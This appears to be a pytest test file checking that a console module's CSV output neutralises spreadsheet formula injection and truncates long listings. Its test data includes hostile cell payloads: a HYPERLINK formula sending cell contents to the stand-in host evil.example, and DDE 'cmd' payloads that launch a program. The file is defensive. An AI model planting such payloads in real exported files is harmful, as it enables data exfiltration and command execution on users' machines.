"""What the command prints is what it says, wherever it is opened."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from flows.console import print_csv, tell_story


def printed(capsys: pytest.CaptureFixture[str], *values: object) -> list[str]:
    print_csv([f"c{number}" for number in range(len(values))], [values])
    return list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))[1]


@pytest.mark.parametrize(
    "title",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1,"more")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "- a list",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_text_in_a_csv(
    capsys: pytest.CaptureFixture[str], title: str
) -> None:
    assert printed(capsys, title) == [f"'{title}"]


@pytest.mark.parametrize(
    "value", [-5, -0.5, "-5", "+1.5e-3", "-1,234.5", "a=b", "1-2", "", "café", "'=1"]
)
def test_numbers_and_usual_texts_stay_as_they_are_in_a_csv(
    capsys: pytest.CaptureFixture[str], value: object
) -> None:
    assert printed(capsys, value) == [str(value)]


def test_lists_moments_and_nothing_stay_as_they_are_in_a_csv(
    capsys: pytest.CaptureFixture[str],
) -> None:
    moment = datetime(2026, 1, 2, tzinfo=UTC)

    assert printed(capsys, ["=1"], moment, None) == ['["=1"]', str(moment), ""]


def test_the_name_of_a_column_is_no_formula_either(
    capsys: pytest.CaptureFixture[str],
) -> None:
    print_csv(["=1+1"], [])

    assert capsys.readouterr().out == "'=1+1\n"


def test_what_is_left_out_of_a_long_story_is_counted(
    capsys: pytest.CaptureFixture[str],
) -> None:
    tell_story({"edges": [{"title": f"t{number}"} for number in range(1_045)]})

    told = capsys.readouterr().out
    assert told.endswith("  t39\n  … and 1,005 more, which --json tells\n")
